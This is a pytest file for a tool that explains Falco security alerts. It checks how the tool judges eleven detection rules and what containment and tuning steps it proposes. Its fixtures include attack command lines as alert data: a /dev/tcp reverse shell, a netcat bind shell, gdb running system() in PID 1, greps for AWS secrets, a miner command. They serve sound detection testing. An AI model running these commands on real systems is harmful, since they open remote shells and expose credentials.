"""Entries of eleven Falco rules: what they conclude, what they refuse to conclude, and what they propose."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.entries import ALERTS, entry_of, explain, read, twin

from explainer.enrich.condition import evaluate, fields_of, parse_condition
from explainer.enrich.falco_rules import load_rules
from explainer.enrich.knowledge import slug
from explainer.enrich.texts import fill_command
from explainer.enrich.view import fields_view
from explainer.schema.knowledge import KnowledgeEntry
from explainer.schema.rule import RuleFacts
from explainer.store.documents import parse_rules_text

ROOT = Path(__file__).resolve().parents[2]
PACKET = "Packet socket created in container"
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
DEBUGFS = "Debugfs Launched in Privileged Container"
RELEASE = "Detect release_agent File Container Escapes"
ATTACH = "PTRACE attached to process"
TRACEME = "PTRACE anti-debug attempt"
AWS = "Find AWS Credentials"
SHM = "Execution from /dev/shm"
DROP = "Drop and execute new binary in container"
SSH = "Disallowed SSH Connection Non Standard Port"
MEMFD = "Fileless execution via memfd_create"
RULES = (PACKET, REDIRECT, DEBUGFS, RELEASE, ATTACH, TRACEME, AWS, SHM, DROP, SSH, MEMFD)
TEST_IMAGE = "falcosecurity/event-generator"


def alert_of(rule: str, **fields: Any) -> dict[str, Any]:
    """An alert of a rule in a container, with these fields (``_`` for the dot) changed."""
    base = {
        "user.name": "root",
        "user.uid": 0,
        "user.loginuid": -1,
        "proc.tty": 0,
        "container.id": "4be1d0a97c35",
        "container.image.repository": "registry.example.com/shop/api",
    }
    return {
        "hostname": "node-3",
        "output": f"22:24:07.000000459: Warning {rule}",
        "output_fields": {**base, **fields},
        "priority": "Warning",
        "rule": rule,
        "source": "syscall",
        "tags": [],
        "time": "2026-05-29T22:24:07.000000459Z",
    }


def variants(*names: str) -> list[Any]:
    found = sorted(p for rule in RULES for p in ALERTS.glob(f"{slug(rule)}-*.json"))
    return [pytest.param(p, id=p.stem) for p in found if p.stem.rsplit("-", 1)[-1] in names]


# --- conclusions --------------------------------------------------------------------------------


@pytest.mark.parametrize("rule", RULES)
def test_the_benign_twin_leans_benign_with_a_cause(rule: str) -> None:
    assessment = explain(twin(rule, "benign")).assessment
    assert assessment.verdict == "benign"
    assert assessment.cause is not None
    assert not (assessment.forgeable_only and assessment.confidence == "high")


@pytest.mark.parametrize("path", variants("malicious", "impostor"))
def test_the_true_positive_twin_is_called_malicious(path: Path) -> None:
    assert explain(json.loads(path.read_text(encoding="utf-8"))).assessment.verdict == "malicious"


@pytest.mark.parametrize(
    ("path", "leading"),
    [
        ("redirect-stdout-stdin-to-network-connection-in-container-inbound", "inetd-style-server"),
        ("detect-release-agent-file-container-escapes-lookalike", "name-lookalike"),
        ("ptrace-attached-to-process-createdump", "crash-or-profile"),
        ("ptrace-attached-to-process-test", "detection-test"),
        ("find-aws-credentials-entrypoint", "environment-check"),
        ("drop-and-execute-new-binary-in-container-package-install", "package-manager"),
        ("execution-from-dev-shm-refused", "blocked-attempt"),
    ],
)
def test_further_twins_find_their_explanation(path: str, leading: str) -> None:
    record = json.loads((ALERTS / f"{path}.json").read_text(encoding="utf-8"))
    assert leading == explain(record).assessment.leading


HOSTILE = {
    "memfd with the runtime's label but below an interpreter": (
        MEMFD,
        {"proc.exepath": "memfd:runc_cloned:/proc/self/exe", "proc.name": "runc", "proc.pname": "python3.11"},
    ),
    "memfd with another label below a renamed parent": (
        MEMFD,
        {"proc.exepath": "memfd:elf", "proc.name": "elf", "proc.pname": "systemd", "evt.res": "SUCCESS"},
    ),
    "a tool copied to /tmp and run by hand": (
        DROP,
        {"proc.exepath": "/tmp/ls2", "proc.name": "ls2", "proc.pname": "sh", "proc.tty": 34816},
    ),
    "a miner below a package manager's name": (
        DROP,
        {"proc.exepath": "/usr/bin/h", "proc.pname": "apt-get", "proc.cmdline": "h -o stratum+tcp://198.51.100.9:3333"},
    ),
    "a file in a binary directory below a web server": (
        DROP,
        {"proc.exepath": "/usr/local/bin/a", "proc.name": "a", "proc.pname": "sh", "proc.aname[2]": "nginx"},
    ),
    "a program in shared memory": (
        SHM,
        {"proc.exepath": "/dev/shm/ls", "proc.name": "ls", "evt.res": "SUCCESS", "evt.arg.flags": "EXE_WRITABLE"},
    ),
    "a replaced file tool in shared memory": (
        SHM,
        {
            "proc.exepath": "/usr/bin/grep",
            "proc.name": "grep",
            "proc.cwd": "/dev/shm/w/",
            "proc.cmdline": "grep ./x",
            "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
        },
    ),
    "a program that starts another one from shared memory": (
        SHM,
        {
            "proc.exepath": "/usr/bin/timeout",
            "proc.name": "timeout",
            "proc.cwd": "/dev/shm/w/",
            "proc.cmdline": "timeout ./m",
        },
    ),
    "an interactive shell over loopback": (
        REDIRECT,
        {
            "fd.sip": "127.0.0.1",
            "fd.lport": 41000,
            "fd.rport": 9050,
            "proc.name": "bash",
            "proc.pname": "sh",
            "proc.cmdline": "bash -c bash -i >& /dev/tcp/127.0.0.1/9050 0>&1",
        },
    ),
    "a bind shell": (
        REDIRECT,
        {
            "fd.sip": "10.1.1.4",
            "fd.lport": 4444,
            "fd.rport": 51000,
            "proc.name": "nc",
            "proc.cmdline": "nc -lvp 4444 -e /bin/sh",
        },
    ),
    "a reverse shell to an IPv6 address": (
        REDIRECT,
        {"fd.sip": "2001:db8::7", "fd.lport": 50190, "fd.rport": 8443, "proc.name": "sh", "proc.pname": "node"},
    ),
    "a version query of a replaced debugfs": (
        DEBUGFS,
        {
            "proc.exepath": "/usr/sbin/debugfs",
            "proc.cmdline": "debugfs -V",
            "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
        },
    ),
    "a disk opened by hand": (
        DEBUGFS,
        {"proc.exepath": "/sbin/debugfs", "proc.pname": "bash", "proc.cmdline": "debugfs /dev/sda1", "proc.tty": 34816},
    ),
    "a release_agent written by something called systemd": (
        RELEASE,
        {"fd.name": "/tmp/c/release_agent", "proc.name": "systemd", "proc.exepath": "/tmp/systemd"},
    ),
    "a release_agent written by an unknown program": (
        RELEASE,
        {"fd.name": "/sys/fs/cgroup/memory/release_agent", "proc.name": "tool", "proc.exepath": "/usr/local/bin/tool"},
    ),
    "a debugger told to run code": (
        ATTACH,
        {
            "proc.exepath": "/usr/bin/gdb",
            "proc.name": "gdb",
            "proc.cmdline": 'gdb -p 1 -ex call (int)system("id")',
            "proc.tty": 3,
        },
    ),
    "a tracer that logs what sshd reads, in a person's session": (
        ATTACH,
        {
            "container.id": "host",
            "proc.exepath": "/usr/bin/strace",
            "proc.name": "strace",
            "proc.cmdline": "strace -f -p 812 -e trace=read,write -s 4096",
            "proc.tty": 34816,
            "user.loginuid": 1000,
        },
    ),
    "a debugger's name in /tmp": (
        TRACEME,
        {"proc.exepath": "/tmp/gdb", "proc.name": "gdb", "proc.pname": "gdb", "proc.pcmdline": "gdb ./a"},
    ),
    "a search of the whole machine": (
        AWS,
        {"proc.name": "grep", "proc.pname": "bash", "proc.cmdline": "grep -r aws_access_key_id /", "proc.tty": 34816},
    ),
    "a search of another process's environment": (
        AWS,
        {"proc.name": "grep", "proc.cmdline": "grep -a aws_secret_access_key /proc/1/environ", "proc.pname": "bash"},
    ),
    "a proxy tunnel started by a web server's account": (
        SSH,
        {
            "fd.rport": 8443,
            "proc.name": "ssh",
            "proc.cmdline": "ssh -D 1080 -fN x@h",
            "user.name": "nginx",
            "user.uid": 101,
        },
    ),
    "an agent's name and image, run from /tmp": (
        PACKET,
        {
            "container.image.repository": "quay.io/metallb/speaker",
            "proc.name": "speaker",
            "proc.exepath": "/tmp/speaker",
        },
    ),
    "an interpreter in a network component's image": (
        PACKET,
        {
            "container.image.repository": "docker.io/calico/node",
            "proc.name": "python3",
            "proc.exepath": "/usr/bin/python3",
        },
    ),
}


@pytest.mark.parametrize(("rule", "fields"), HOSTILE.values(), ids=HOSTILE)
def test_a_borrowed_name_or_place_does_not_make_it_harmless(rule: str, fields: dict[str, Any]) -> None:
    record = alert_of(rule, **{"evt.args": "fd=3(<o>) domain=17(AF_PACKET) type=3 proto=768", **fields})
    assert explain(record).assessment.verdict in {"suspicious", "malicious"}


OPEN = {
    "git that names a provider and goes elsewhere": (
        SSH,
        {
            "fd.name": "10.0.0.2:55000->198.51.100.5:443",
            "fd.rport": 443,
            "proc.name": "ssh",
            "proc.exepath": "/usr/bin/ssh",
            "proc.pname": "git",
            "proc.cmdline": "ssh -p 443 git@ssh.github.com git-upload-pack x",
        },
    ),
    "a capture by hand": (PACKET, {"proc.name": "tcpdump", "proc.exepath": "/usr/bin/tcpdump", "proc.tty": 34816}),
    "strace by hand in a container": (
        ATTACH,
        {"proc.name": "strace", "proc.exepath": "/usr/bin/strace", "proc.cmdline": "strace -p 12", "proc.tty": 34816},
    ),
    "env piped into grep": (
        AWS,
        {"proc.name": "grep", "proc.pname": "sh", "proc.cmdline": "grep -i aws_secret_access_key", "proc.cwd": "/app"},
    ),
    "an image's program that was changed after the start": (
        DROP,
        {"proc.exepath": "/usr/local/bin/tailscale", "proc.pname": "containerboot", "proc.aname[2]": "containerd-shim"},
    ),
}


@pytest.mark.parametrize(("rule", "fields"), OPEN.values(), ids=OPEN)
def test_what_a_name_alone_suggests_stays_open(rule: str, fields: dict[str, Any]) -> None:
    assessment = explain(alert_of(rule, **fields)).assessment
    assert assessment.verdict == "insufficient_evidence"
    assert assessment.leading is not None


@pytest.mark.parametrize("rule", RULES)
def test_the_image_name_of_the_test_tool_alone_closes_nothing(rule: str) -> None:
    assert explain(alert_of(rule, **{"container.image.repository": TEST_IMAGE})).assessment.verdict != "benign"


@pytest.mark.parametrize("rule", RULES)
def test_an_alert_without_fields_falls_back_to_the_default_verdict(rule: str) -> None:
    record = {**alert_of(rule), "output_fields": {}}
    entry = entry_of(rule)
    assert explain(record).assessment.verdict in {entry.default_verdict, entry.verdict_floor}


@pytest.mark.parametrize("rule", RULES)
def test_absence_of_a_terminal_speaks_for_no_harmless_cause_as_proof(rule: str) -> None:
    # Every exploited service runs without terminal and log-in session.
    for hypothesis in entry_of(rule).hypotheses:
        for signal in hypothesis.supports:
            if hypothesis.verdict == "benign" and not signal.forgeable:
                assert not re.fullmatch(r"\(?proc\.tty = 0( and user\.loginuid.*)?", signal.when.strip())


CHOSEN = (
    "proc.name",
    "proc.cmdline",
    "proc.args",
    "proc.pname",
    "proc.aname",
    "proc.pcmdline",
    "proc.sname",
    "proc.cwd",
)


@pytest.mark.parametrize("rule", RULES)
def test_no_sign_that_rests_on_a_chosen_name_is_called_unforgeable(rule: str) -> None:
    for hypothesis in entry_of(rule).hypotheses:
        hostile = hypothesis.supports if hypothesis.verdict != "benign" else ()
        for signal in (*hostile, *hypothesis.refutes):
            names = {name.split("[", 1)[0] for name in fields_of(parse_condition(signal.when))}
            assert signal.forgeable or not names & set(CHOSEN), signal.because


# --- shape --------------------------------------------------------------------------------------


@pytest.mark.parametrize("rule", RULES)
def test_an_entry_weighs_harmless_against_hostile_and_says_what_settles_it(rule: str) -> None:
    entry = entry_of(rule)
    verdicts = [hypothesis.verdict for hypothesis in entry.hypotheses]
    assert 3 <= len(verdicts) <= 8
    assert "benign" in verdicts
    assert "malicious" in verdicts
    for hypothesis in entry.hypotheses:
        assert hypothesis.supports
        assert hypothesis.refutes
        assert hypothesis.settle
        assert hypothesis.verdict != "benign" or any(signal.decisive for signal in hypothesis.refutes)
    assert entry.questions
    assert entry.unknowns
    assert entry.attack
    assert entry.not_advised


def _upstream(shared: Path) -> tuple[str, ...]:
    return tuple(
        (shared / "upstream" / name).read_text(encoding="utf-8")
        for name in ("falco_rules.yaml",)
        if (shared / "upstream").is_dir()
    )


@pytest.mark.parametrize("rule", RULES)
def test_every_rule_field_in_a_condition_is_one_that_falco_has(rule: str, shared: Path) -> None:
    facts = load_rules([parse_rules_text(text, "falco_rules.yaml") for text in _upstream(shared)]).rules[rule]
    # Fields of the rule's output, what Falco appends by itself, and what sites usually add.
    carried = {
        *facts.output_fields,
        "container.id",
        "container.name",
        "container.image.repository",
        "container.image.tag",
    }
    carried |= {
        "k8s.ns.name",
        "k8s.pod.name",
        "proc.pexepath",
        "proc.exe",
        "proc.args",
        "evt.res",
        "proc.pcmdline",
        "proc.cwd",
    }
    for hypothesis in entry_of(rule).hypotheses:
        readable = 0
        for signal in hypothesis.supports:
            readable += set(fields_of(parse_condition(signal.when))) <= carried | {
                "proc.aname[2]",
                "proc.aname[3]",
                "proc.sname",
                "evt.arg.flags",
                "fd.snet",
            }
        assert readable, f"{hypothesis.id}: no supporting sign can be read from an alert of this rule"


def _commands(entry: KnowledgeEntry) -> Iterator[tuple[str, str, bool]]:
    for action in entry.actions:
        if action.command:
            yield action.id, action.command, action.read_only
    for number, unknown in enumerate(entry.unknowns):
        if unknown.command:
            yield f"unknowns[{number}]", unknown.command, True


@pytest.mark.parametrize("rule", RULES)
@pytest.mark.parametrize("filled", [True, False], ids=["with values", "with placeholders"])
def test_commands_are_shell_that_parses(rule: str, filled: bool) -> None:
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("no bash")
    fields = fields_view(read(twin(rule, "malicious"))) if filled else {}
    script = "\n".join(fill_command(command, fields) for _, command, _ in _commands(entry_of(rule)))
    done = subprocess.run([bash, "-n"], input=script, capture_output=True, text=True, check=False)
    assert done.stderr == ""


@pytest.mark.parametrize("rule", RULES)
def test_steps_that_are_called_read_only_write_nothing(rule: str) -> None:
    readonly = pytest.importorskip("explainer.advice.readonly")
    fields = fields_view(read(twin(rule, "malicious")))
    for name, command, read_only in _commands(entry_of(rule)):
        if read_only:
            assert readonly.is_read_only(fill_command(command, fields)) is not False, f"{name}: {command}"


@pytest.mark.parametrize("rule", RULES)
def test_evidence_is_preserved_before_anything_is_stopped(rule: str) -> None:
    actions = explain(twin(rule, "malicious")).actions
    stages = [action.stage for action in actions]
    assert "preserve" in stages
    assert stages.index("preserve") < min(i for i, action in enumerate(actions) if action.destroys_evidence)
    assert all(
        action.needs_approval for action in actions if action.stage in {"contain", "eradicate"} and not action.read_only
    )


# --- tuning -------------------------------------------------------------------------------------


def _configs(record: dict[str, Any], facts: RuleFacts | None = None) -> list[str]:
    return [action.config for action in explain(record, facts).actions if action.stage == "tune" and action.config]


@pytest.mark.parametrize("rule", RULES)
def test_tuning_loads_after_the_upstream_file_and_silences_the_benign_twin_only(rule: str, shared: Path) -> None:
    upstream = parse_rules_text(_upstream(shared)[0], "falco_rules.yaml")
    facts = load_rules([upstream]).rules[rule]
    configs = _configs(twin(rule, "benign"), facts)
    assert configs, "nothing is offered"
    for config in configs:
        tuned = load_rules([upstream, parse_rules_text(config, "own.yaml")]).rules[rule]
        excluded = _excluded(facts, tuned)
        assert evaluate(excluded, fields_view(read(twin(rule, "benign")))) is True
        assert evaluate(excluded, fields_view(read(twin(rule, "malicious")))) is False


def _excluded(before: RuleFacts, after: RuleFacts) -> Any:
    """The condition that the tuning takes out: an exception's row, or what was appended to a macro."""
    rows = [e for e in after.exceptions if e.name not in {old.name for old in before.exceptions}]
    if rows:
        values = rows[0].values
        assert isinstance(values, list)
        row = values[0]
        assert isinstance(row, list)
        parts = [
            f"{name} {comp} ({', '.join(json.dumps(str(v)) for v in value)})"
            if isinstance(value, list)
            else f"{name} {comp} {json.dumps(str(value))}"
            for name, comp, value in zip(rows[0].fields, rows[0].comps, row, strict=True)
        ]
        return parse_condition(" and ".join(parts))
    old = {point.name: point.condition for point in before.tuning}
    grown = next(p for p in after.tuning if p.kind == "macro" and p.condition != old.get(p.name))
    assert grown.condition is not None
    return parse_condition("(" + grown.condition.rsplit(" or (", 1)[1])


@pytest.mark.parametrize("path", variants("malicious", "impostor", "refused"))
def test_no_tuning_is_offered_for_what_is_not_shown_to_be_harmless(path: Path) -> None:
    assert _configs(json.loads(path.read_text(encoding="utf-8"))) == []


# --- real alerts --------------------------------------------------------------------------------


def test_real_alerts_of_test_tools_are_led_by_the_test(shared: Path) -> None:
    seen = 0
    for path in sorted((shared / "alerts" / "falco").iterdir()):
        for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
            try:
                record = json.loads(line)
            except ValueError:
                continue
            if not isinstance(record, dict) or record.get("rule") not in RULES:
                continue
            seen += 1
            if "event-generator" in line:
                assessment = explain(record).assessment
                assert assessment.leading in {"detection-test", "event-generator"}, path.name
                assert assessment.verdict in {"benign", "insufficient_evidence"}
    assert seen
